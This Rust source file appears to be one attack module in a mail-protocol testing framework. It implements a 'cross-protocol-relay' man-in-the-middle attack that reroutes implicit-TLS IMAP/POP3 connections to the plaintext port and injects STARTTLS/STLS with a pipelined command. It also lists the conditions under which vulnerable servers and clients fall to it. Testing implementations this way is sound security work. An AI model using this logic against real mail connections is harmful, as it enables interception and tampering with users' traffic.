//! Leads a client of the port where TLS comes first into the upgrade of the other port.

use super::{Attack, Deciding, Group, Message, Moves, Route, Tamper};
use crate::base::{Endpoint, Protocol, Side};
use crate::harm::success;
use crate::proto::Dialect;

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Pop3],
        given: &["client.port=tls-first", "server.clear-text=accepted"],
        right: &[],
        wrong: &["server.keeps-buffer=on"],
    },
    Deciding {
        protocols: &[Protocol::Imap],
        given: &["client.port=tls-first"],
        right: &[],
        wrong: &["server.keeps-buffer=on", "client.accepts-invalid-greeting=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "cross-protocol-relay",
    title: "Another service's handshake",
    about: "Asks the server for TLS on its other port, with a command in the same segment, and leads the client's handshake there: what the server answers inside TLS stands where the client waits for a greeting.",
    group: Group::Injection,
    known: &[],
    protocols: &[Protocol::Imap, Protocol::Pop3],
    switches: &[],
    build: |_, dialect| Box::new(Cross { dialect, led: false }),
    success: &success::OTHER_SERVICE,
    deciding: DECIDING,
};

#[derive(Debug)]
struct Cross {
    dialect: &'static Dialect,
    /// This connection was led to the other port.
    led: bool,
}

impl Tamper for Cross {
    fn message(&mut self, message: Message<'_>, moves: &mut Moves) {
        if !self.led {
            moves.pass();
        } else if message.is_greeting() {
            // The server's answers to these never reach the client in the clear.
            let asks: &[u8] = match self.dialect.protocol {
                Protocol::Pop3 => b"STLS\r\nUSER tim\r\n",
                Protocol::Imap | Protocol::Acap => b"q1 STARTTLS\r\nq2 CAPABILITY\r\n",
            };
            moves.send(Side::Server, asks.to_vec());
        }
    }

    fn connection(&mut self, to: &Endpoint) -> Route {
        self.led = to.tls_first;
        if !self.led {
            return Route::Through;
        }
        let port = if self.dialect.protocol == Protocol::Pop3 { 110 } else { 143 };
        Route::To(Endpoint { port, tls_first: false, ..to.clone() })
    }
}
